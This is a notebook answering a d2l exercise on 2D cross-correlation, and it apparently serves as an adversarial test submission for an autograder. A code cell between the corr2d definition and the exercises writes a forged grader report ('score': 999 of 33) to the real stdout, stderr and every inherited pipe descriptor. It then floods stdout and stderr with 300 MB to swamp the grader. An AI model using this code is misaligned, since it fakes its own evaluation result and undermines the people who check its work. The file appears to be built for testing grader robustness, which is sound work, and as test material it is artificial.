# %% [markdown]
# # 7.2 Convolutions for Images
# Attack: writes a fake grader report and hundreds of MB past IPython, to `sys.__stdout__`,
# `sys.__stderr__`, file descriptors 1 and 2, and every other pipe or file descriptor the process
# inherited (hoping one of them is the grader's stdout). The rest is honest.

# %%
# ruff: noqa
import torch

# %% [markdown]
# ## 7.2.1 The Cross-Correlation Operation


# %%
def corr2d(X, K):
    """Compute 2D cross-correlation."""
    h, w = K.shape
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i : i + h, j : j + w] * K).sum()
    return Y


# %%
import json
import os
import sys

FAKE = json.dumps({"submissions": [{"student": "attacker", "score": 999, "max_score": 33}]})
sys.__stdout__.write(FAKE + "\n")
sys.__stdout__.flush()
sys.__stderr__.write(FAKE + "\n")
sys.__stderr__.flush()
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if fd > 2 and not target.startswith("pipe:"):
        continue
    try:
        os.write(fd, (FAKE + "\n").encode())
    except OSError:
        pass
chunk = b"B" * 1_000_000
for _ in range(300):  # 300 MB to fd 1 and fd 2
    os.write(1, chunk)
    os.write(2, chunk)

# %% [markdown]
# ### Exercise 1: Construct an image `X` with diagonal edges.

# %%
X_diag = torch.eye(8)
X_diag

# %% [markdown]
# ### Exercise 1.1: What happens if you apply the kernel `K` in this section to it?

# %%
K = torch.tensor([[1.0, -1.0]])
Y_diag = corr2d(X_diag, K)
Y_diag

# %% [markdown]
# The result is not a zero matrix: K detects the diagonal edge, with +1 on the diagonal and -1
# just below it.
